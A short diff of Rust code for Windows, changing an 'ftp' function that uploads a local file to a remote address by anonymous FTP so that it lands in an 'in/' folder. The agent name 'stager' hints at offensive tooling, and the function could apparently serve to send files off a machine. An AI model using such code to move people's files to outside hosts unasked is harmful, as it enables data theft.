@@ -100,7 +100,7 @@ mod windows {
     fn ftp(file: &str, address: SocketAddr) {
         let (agent, host) = (wide("stager"), wide(&address.ip().to_string()));
         let (user, password) = (wide("anonymous"), wide("stager@example.com"));
-        let (local, remote) = (wide(file), wide(&name(file)));
+        let (local, remote) = (wide(file), wide(&format!("in/{}", name(file))));
         // SAFETY: every text ends in a NUL and outlives the calls; handles are closed once, in the order of their use.
         unsafe {
             let internet =
